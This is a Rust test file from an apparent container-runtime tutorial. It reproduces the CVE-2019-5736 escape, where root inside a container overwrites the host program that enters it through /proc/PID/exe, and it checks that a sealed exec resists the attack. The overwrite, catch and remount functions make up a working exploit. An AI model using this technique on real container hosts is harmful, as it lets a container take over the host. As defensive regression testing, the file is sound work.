//! Root in a container writes over the program of whoever enters it (CVE-2019-5736); and cannot when that is sealed.

use std::convert::Infallible;
use std::env;
use std::ffi::{CString, OsStr, OsString};
use std::fs::{self, File};
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio, exit};
use std::thread::sleep;
use std::time::{Duration, Instant};

use anyhow::Context;
use ch01_run::exec::exec;
use ch03_pivot_root::{image, state};
use ch07_lifecycle::process1::{self, Process1};
use ch07_lifecycle::record::Record;
use ch07_lifecycle::{enter, find, report};
use libtest_mimic::{Arguments, Failed, Trial};
use nix::errno::Errno;
use nix::fcntl::{OFlag, open};
use nix::libc;
use nix::sched::setns;
use nix::sys::stat::{Mode, fstat};
use nix::sys::wait::{WaitPidFlag, WaitStatus, waitpid};
use nix::unistd::{ForkResult, Pid, fork, write};

type Outcome<T> = Result<T, Box<dyn std::error::Error>>;

const ID: &str = "0123456789ab";

/// What the attacker writes.
const OWNED: &[u8] = b"owned!";

/// Time for the attacker: the command is looked for in so many directories first.
const DIRECTORIES: usize = 3000;

/// How the attack ends, as the attacker's exit status.
const WRITTEN: i32 = 10;
const NOT_CAUGHT: i32 = 11;
const READ_ONLY: i32 = 12;
const OTHER: i32 = 13;

fn main() {
    if env::var_os("BYHAND_ROOT").is_some_and(|_| env::args().nth(1).as_deref() == Some(UNSEALED)) {
        return drop(exec_unsealed());
    }
    let program = PathBuf::from(env!("CARGO_BIN_EXE_ch07_lifecycle"));
    // One thread, because the attacker is forked.
    let arguments = Arguments { test_threads: Some(1), ..Arguments::from_args() };
    let tests = vec![
        Trial::test("unsealed_is_overwritten", move || {
            expect(attack(&env::current_exe()?, &[UNSEALED])?, (WRITTEN, true))
        }),
        Trial::test("sealed_is_not", move || {
            expect(attack(&program, &["exec", ID, "true"])?, (READ_ONLY, false))
        }),
    ];
    libtest_mimic::run(&arguments, tests).exit();
}

/// The first argument of this program where it is not the test, but `exec` without its first step.
const UNSEALED: &str = "unsealed";

fn exec_unsealed() -> anyhow::Result<Infallible> {
    let record = find::one(&state::root()?, OsStr::new(ID))?;
    let process1 = Process1::of(&record)?.context("it is not running")?;
    let environment = record.read("environment")?.unwrap_or_default();
    let environment = [OsString::from(environment.trim_end_matches('\0'))];
    let (_outcome, report) = report::make()?;
    enter::enter(&process1, report.descriptor())?;
    enter::fork_command(false, &report, || exec(&["true".into()], &environment))
}

fn expect(seen: (i32, bool), wanted: (i32, bool)) -> Result<(), Failed> {
    if seen == wanted {
        return Ok(());
    }
    Err(format!("the attacker ended with {} (program changed: {}), and not {}", seen.0, seen.1, wanted.0)
        .into())
}

/// Enters a container with a copy of this program, again and again, until the attacker in there has ended. Returns the
/// attacker's status, and whether the copy is another than before.
fn attack(program: &Path, arguments: &[&str]) -> Outcome<(i32, bool)> {
    let container = Container::make()?;
    let copy = container.directory.path().join("copy");
    fs::copy(program, &copy)?;
    let before = fs::read(&copy)?;
    let attacker = container.fork_inside(fs::metadata(&copy)?.ino())?;
    let status = loop {
        if let WaitStatus::Exited(_, status) = waitpid(attacker, Some(WaitPidFlag::WNOHANG))? {
            break status;
        }
        let _ = Command::new(&copy)
            .args(arguments)
            .env("BYHAND_ROOT", container.directory.path())
            .stderr(Stdio::null())
            .status(); // it cannot be executed any more when it is overwritten
    };
    Ok((status, fs::read(&copy)? != before))
}

/// A container without a keeper: a keeper that runs the same file would have the kernel refuse to write to it, and that
/// is no safety, because it may run another one, as after an update.
struct Container {
    directory: tempfile::TempDir,
    process1: Process1,
    unshare: Child,
    _lock: File,
}

impl Container {
    fn make() -> Outcome<Container> {
        let directory = tempfile::Builder::new().prefix("overwrite-").tempdir()?;
        let state = directory.path();
        let image = image::busybox(state)?;
        let script =
            "mount --make-rprivate / && mount --bind \"$0\" \"$0\" && cd \"$0\" && mkdir -p old proc &&
            pivot_root . old && exec /bin/sh -c '
                mount -t proc proc /proc && umount -l /old && touch /ready && exec sleep 100'";
        let unshare = Command::new("unshare")
            .args(["-mpfuin", "--kill-child", "sh", "-c", script])
            .arg(&image)
            .spawn()?;
        let record = Record::open(state, ID);
        fs::create_dir_all(record.directory())?;
        let lock = File::open(record.directory())?;
        lock.lock()?;
        let path = format!("PATH={}/bin", "/nowhere:".repeat(DIRECTORIES));
        fs::write(record.path("environment"), path + "\0")?;
        fs::write(record.path("arguments"), "true\0")?;
        record.write("started", "1.0")?;
        let begun = Instant::now();
        while !image.join("ready").exists() {
            if begun.elapsed() > Duration::from_secs(20) {
                return Err("the container is not there".into());
            }
            sleep(Duration::from_millis(10));
        }
        let id = unshare.id();
        let children = fs::read_to_string(format!("/proc/{id}/task/{id}/children"))?;
        record.write("pid", process1::fact_of(Pid::from_raw(children.trim().parse()?))?)?;
        let process1 = Process1::of(&record)?.ok_or("the container has ended")?;
        Ok(Container { directory, process1, unshare, _lock: lock })
    }

    /// Forks the attacker into the container. It looks for a process that runs the file with this number.
    fn fork_inside(&self, file: u64) -> Outcome<Pid> {
        // SAFETY: we run one thread.
        match unsafe { fork() }? {
            ForkResult::Parent { child } => Ok(child),
            ForkResult::Child => {
                let kinds = ch01_run::namespaces::OWN;
                let entered = setns(&self.process1, kinds);
                // SAFETY: as before. The PID namespace is for children only.
                match entered.and_then(|()| unsafe { fork() }) {
                    Ok(ForkResult::Child) => exit(overwrite(file)),
                    Ok(ForkResult::Parent { child }) => match waitpid(child, None) {
                        Ok(WaitStatus::Exited(_, status)) => exit(status),
                        _ => exit(OTHER),
                    },
                    Err(_) => exit(OTHER),
                }
            }
        }
    }
}

impl Drop for Container {
    fn drop(&mut self) {
        let _ = self.unshare.kill();
        let _ = self.unshare.wait();
    }
}

/// The attack, as root of the container: catches the program, and then tries to write to it until nobody runs it.
fn overwrite(file: u64) -> i32 {
    let begun = Instant::now();
    let Some(caught) = (loop {
        if let Some(caught) = catch(file) {
            break Some(caught);
        }
        if begun.elapsed() > Duration::from_secs(30) {
            break None;
        }
    }) else {
        return NOT_CAUGHT;
    };
    loop {
        // Perhaps the mount can be made writable; or a copy of it.
        make_writable(&caught);
        let copy = copy_mount(&caught);
        copy.iter().for_each(make_writable);
        match write_to(&caught).or_else(|errno| copy.as_ref().map_or(Err(errno), write_to)) {
            Ok(()) => return WRITTEN,
            Err(Errno::ETXTBSY) if begun.elapsed() < Duration::from_secs(60) => {
                sleep(Duration::from_millis(1))
            }
            Err(Errno::EROFS) => return READ_ONLY,
            Err(_) => return OTHER,
        }
    }
}

/// The file that some process runs, if it's the one.
fn catch(file: u64) -> Option<OwnedFd> {
    let processes = fs::read_dir("/proc").ok()?.flatten().map(|entry| entry.path());
    processes.filter(|path| path.join("exe").is_symlink()).find_map(|path| {
        let open = open(&path.join("exe"), OFlag::O_PATH | OFlag::O_CLOEXEC, Mode::empty()).ok()?;
        (fstat(&open).ok()?.st_ino == file).then_some(open)
    })
}

fn write_to(caught: &OwnedFd) -> Result<(), Errno> {
    let path = format!("/proc/self/fd/{}", caught.as_raw_fd());
    let open = open(path.as_str(), OFlag::O_WRONLY, Mode::empty())?;
    write(&open, OWNED).map(drop)
}

fn make_writable(mount: &OwnedFd) {
    let change =
        libc::mount_attr { attr_set: 0, attr_clr: libc::MOUNT_ATTR_RDONLY, propagation: 0, userns_fd: 0 };
    let (fd, path, size) = (mount.as_raw_fd(), c"".as_ptr(), size_of::<libc::mount_attr>());
    // SAFETY: the kernel reads what lives as long as the call.
    unsafe { libc::syscall(libc::SYS_mount_setattr, fd, path, libc::AT_EMPTY_PATH, &raw const change, size) };
    let path = CString::new(format!("/proc/self/fd/{fd}")).unwrap_or_default();
    let flags = libc::MS_REMOUNT | libc::MS_BIND;
    // SAFETY: as before.
    unsafe { libc::mount(c"none".as_ptr(), path.as_ptr(), c"none".as_ptr(), flags, std::ptr::null()) };
}

fn copy_mount(mount: &OwnedFd) -> Option<OwnedFd> {
    let flags = libc::OPEN_TREE_CLONE | libc::OPEN_TREE_CLOEXEC | libc::AT_EMPTY_PATH as u32;
    // SAFETY: the kernel reads a path that lives as long as the call, and makes a descriptor that is nobody else's.
    unsafe {
        let fd = libc::syscall(libc::SYS_open_tree, mount.as_raw_fd(), c"".as_ptr(), flags);
        Errno::result(fd).ok().map(|fd| OwnedFd::from_raw_fd(fd as i32))
    }
}
